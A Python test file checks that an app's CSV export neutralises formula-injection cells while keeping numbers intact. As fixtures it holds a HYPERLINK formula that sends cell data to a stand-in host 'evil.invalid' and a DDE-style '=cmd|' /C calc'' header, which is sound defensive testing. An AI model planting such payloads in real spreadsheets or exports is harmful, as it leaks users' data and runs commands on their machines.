"""app.tables.to_csv: every CSV leaving the app neutralises formula cells; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings, strategies as st

from app.tables import FORMULA_STARTS, safe_cell, to_csv


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_cells_get_a_quote_and_numbers_stay():
    table = pd.DataFrame({
        "summary": ['=HYPERLINK("http://evil.invalid/?"&A1,"x")', "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "ok"],
        "points": [-5, 1, 2, 3, 4, 5, 6],
        "as_text": ["-5", "+1.5", "-1e3", "-", "a", "=", None],
        "labels": [["=x", "b"], [], ["a", "=b"], ["@c"], [], [], []],
    })
    assert _rows(to_csv(table)) == [
        ["summary", "points", "as_text", "labels"],
        ['\'=HYPERLINK("http://evil.invalid/?"&A1,"x")', "-5", "-5", "'=x;b"],
        ["'+cmd", "1", "+1.5", ""],
        ["'-2+3", "2", "-1e3", "a;=b"],
        ["'@SUM(A1)", "3", "'-", "'@c"],
        ["'\t=1", "4", "a", ""],
        ["'\r=1", "5", "'=", ""],
        ["ok", "6", "", ""],
    ]


def test_header_names_from_the_data_are_neutralised():
    wide = pd.DataFrame({"team": ["a"], "=cmd|' /C calc'!A0": [1]})
    assert _rows(to_csv(wide))[0] == ["team", "'=cmd|' /C calc'!A0"]


def test_empty_table():
    assert to_csv(pd.DataFrame({"key": pd.Series([], dtype="str")})) == "key\r\n"


_text = st.text(alphabet=st.sampled_from(list("=+-@\t\r ab1.,;\"'\n")), max_size=8)


@settings(max_examples=300, deadline=None)
@given(texts=st.lists(_text, min_size=1, max_size=6), numbers=st.lists(st.integers(-10**6, 10**6), min_size=6,
                                                                      max_size=6))
def test_no_cell_starts_a_formula_and_numbers_round_trip(texts, numbers):
    table = pd.DataFrame({"text": texts, "number": numbers[:len(texts)],
                          "ratio": [n / 7 for n in numbers[:len(texts)]]})
    out = pd.read_csv(io.StringIO(to_csv(table)), dtype={"text": str}, keep_default_na=False)
    for original, shown in zip(texts, out["text"]):
        if shown.startswith(FORMULA_STARTS):
            # Only a plain number (harmless in a spreadsheet) may start with a sign.
            float(shown)
            assert shown == original
        else:
            assert shown == original or shown == "'" + original
    assert out["number"].tolist() == numbers[:len(texts)]
    assert out["ratio"].tolist() == table["ratio"].tolist()


@given(st.text(max_size=20))
def test_safe_cell_only_ever_adds_one_quote(text):
    assert safe_cell(text) in (text, "'" + text)
    assert safe_cell(5) == 5 and safe_cell(-5.5) == -5.5 and safe_cell(None) is None


def test_cli_csv_output_is_neutralised_too():
    from cli import format_table
    table = pd.DataFrame({"team": ['=HYPERLINK("http://evil.invalid","x")', "Core"], "open_items": [-5, 3]})
    assert format_table(table, "csv").splitlines() == [
        "team,open_items", '"\'=HYPERLINK(""http://evil.invalid"",""x"")",-5', "Core,3"]
